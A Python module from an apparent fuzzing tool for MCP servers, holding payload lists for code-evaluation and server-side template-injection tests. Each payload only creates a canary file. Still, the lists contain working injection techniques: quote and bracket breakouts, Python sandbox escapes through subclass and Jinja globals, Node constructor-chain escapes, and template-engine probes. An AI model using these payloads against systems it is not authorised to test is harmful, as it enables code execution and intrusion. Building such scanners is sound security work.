"""Text that something evaluates: code that makes one empty file with the case's canary, and products in the
braces of template languages.
"""

from __future__ import annotations

from functools import lru_cache

from mcpfuzz.strategies.payload import Payload

__all__ = ["code", "templates"]

MADE = "{watch}/{canary:1}"
PYTHON = f"__import__('pathlib').Path('{MADE}').touch()"
QUOTED = f'__import__("pathlib").Path("{MADE}").touch()'
IMPORTED = f"import pathlib; pathlib.Path('{MADE}').touch()"
NODE = f"require('fs').writeFileSync('{MADE}','')"
BUILT_IN = f"process.getBuiltinModule('fs').writeFileSync('{MADE}','')"
MODULE = f"process.mainModule.require('fs').writeFileSync('{MADE}','')"
OUTER = f"this.constructor.constructor('return process')().getBuiltinModule('fs').writeFileSync('{MADE}','')"
OLDER = OUTER.replace("getBuiltinModule(", "mainModule.require(")
DYNAMIC = f"import('fs').then(f=>f.writeFileSync('{MADE}','')).catch(()=>0)"

FREED = (
    "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='_wrap_close'][0].__init__.__globals__['mkdir']"
    f"('{MADE}')"
)

CODE: tuple[tuple[str, str, str], ...] = (
    (PYTHON, PYTHON, "Python"),
    (f"(BASE, {PYTHON})", PYTHON, "Python beside the good value"),
    (IMPORTED, IMPORTED, "a Python statement"),
    (NODE, NODE, "JavaScript"),
    (BUILT_IN, BUILT_IN, "JavaScript without require"),
    (f"BASE\n{IMPORTED}", IMPORTED, "a Python statement on a line of its own"),
    (f"BASE;{NODE}", NODE, "JavaScript behind a semicolon"),
    (f"BASE;{BUILT_IN}", BUILT_IN, "JavaScript without require behind a semicolon"),
    (f"BASE; {IMPORTED}", IMPORTED, "a Python statement behind a semicolon"),
    (f"'+str({QUOTED})+'", QUOTED, "Python out of single quotes"),
    (f'"+str({PYTHON})+"', PYTHON, "Python out of double quotes"),
    (f"{{{{{PYTHON}}}}}", PYTHON, "Python in the braces of a template"),
    (f"{{{PYTHON}}}", PYTHON, "Python in the braces of a format"),
    (f"${{{BUILT_IN}}}", BUILT_IN, "JavaScript in the braces of a template"),
    (f"BASE) or ({PYTHON}", PYTHON, "Python out of a bracket"),
    (f"BASE if {PYTHON} else BASE", PYTHON, "Python as a condition"),
    (MODULE, MODULE, "JavaScript by the main module"),
    (OUTER, OUTER, "JavaScript out of a context of its own"),
    (OLDER, OLDER, "JavaScript out of a context of its own, by the main module"),
    (DYNAMIC, DYNAMIC, "a JavaScript import"),
    (f"'+{BUILT_IN.replace(chr(39), chr(34))}+'", BUILT_IN.replace("'", '"'), "JavaScript out of single quotes"),
    (f'"+{BUILT_IN}+"', BUILT_IN, "JavaScript out of double quotes"),
    (
        f"');{BUILT_IN.replace(chr(39), chr(34))};('",
        BUILT_IN.replace("'", '"'),
        "JavaScript out of quotes and a bracket",
    ),
    (f'");{BUILT_IN};("', BUILT_IN, "JavaScript out of double quotes and a bracket"),
    (f"return {BUILT_IN}", BUILT_IN, "JavaScript, returned"),
    (f"()=>{BUILT_IN}", BUILT_IN, "a JavaScript function"),
    (f"lambda *a: {PYTHON}", PYTHON, "a Python function"),
    (f"{{{{lipsum.__globals__.os.mkdir('{MADE}')}}}}", f"mkdir('{MADE}')", "Python by a template's own function"),
    (FREED, FREED, "Python without built-in functions"),
    (f"{{{{cycler.__init__.__globals__.__builtins__.{PYTHON}}}}}", PYTHON, "Python by a template's own objects"),
    (f"${{{PYTHON}}}", PYTHON, "Python in the braces of another template"),
    (f"<% {PYTHON} %>", PYTHON, "Python between the marks of a template"),
    (f"<%= {BUILT_IN} %>", BUILT_IN, "JavaScript between the marks of a template"),
    (f"File.write('{MADE}','')", f"File.write('{MADE}','')", "Ruby"),
    (f"touch('{MADE}');", f"touch('{MADE}')", "PHP"),
    (f"io.open('{MADE}','w'):close()", f"io.open('{MADE}','w')", "Lua"),
)
"""(template, the piece that does it, words); BASE is the good value."""

PRODUCT = "{number:1}*{number:2}"
BRACES: tuple[tuple[str, str], ...] = (
    (f"{{{{{PRODUCT}}}}}", "double braces"),
    (f"${{{PRODUCT}}}", "a dollar and braces"),
    (f"<%= {PRODUCT} %>", "the marks of ERB and EJS"),
    (f"#{{{PRODUCT}}}", "a hash and braces"),
    (f"{{{PRODUCT}}}", "single braces"),
    (f"{{{{ {PRODUCT} }}}}", "double braces with blanks"),
    ("{% widthratio {number:1} 1 {number:2} %}", "a tag that computes a ratio"),
    ("{{ {number:1} | times: {number:2} }}", "a filter that multiplies"),
    (f"{{{{={PRODUCT}}}}}", "double braces and an equals sign"),
    (f"@({PRODUCT})", "an at sign and brackets"),
    (f"*{{{PRODUCT}}}", "an asterisk and braces"),
    (f"[[${{{PRODUCT}}}]]", "an expression between brackets"),
    (f"#set($x={PRODUCT})$x", "a directive"),
    (f"<#assign x={PRODUCT}>${{x}}", "an assignment and a dollar"),
    (f"${{{{{PRODUCT}}}}}", "a dollar and double braces"),
    (f"{{{{[{PRODUCT}]}}}}", "double braces and a list"),
    (f"~{{{PRODUCT}}}", "a tilde and braces"),
    (f"{{{{{{{PRODUCT}}}}}}}", "triple braces"),
    (f"T({PRODUCT})", "a type"),
    (f"${{{PRODUCT}L}}", "a dollar, braces and a long number"),
    ("{{'{number:1}'|int*{number:2}}}", "a filter that makes a number"),
)
"""What a template evaluates; the same without braces is the control."""


@lru_cache(maxsize=4096)
def code(base: str) -> tuple[Payload, ...]:
    """Code for an evaluator, most likely first."""
    made = [
        Payload(template.replace("BASE", base or "1"), words, (piece,), "code-evaluation")
        for template, piece, words in CODE
    ]
    return tuple({payload.text: payload for payload in made}.values())


@lru_cache(maxsize=4096)
def templates(base: str) -> tuple[Payload, ...]:
    """Products in braces, alone and behind the good value, most likely first."""
    made = [Payload(text, f"a product in {words}", (text,), "template-injection", PRODUCT) for text, words in BRACES]
    behind = [
        Payload(f"{base} {text}", f"a product in {words} behind the value", (text,), "template-injection", PRODUCT)
        for text, words in BRACES[:6]
        if base
    ]
    return (*made[:5], *behind, *made[5:])
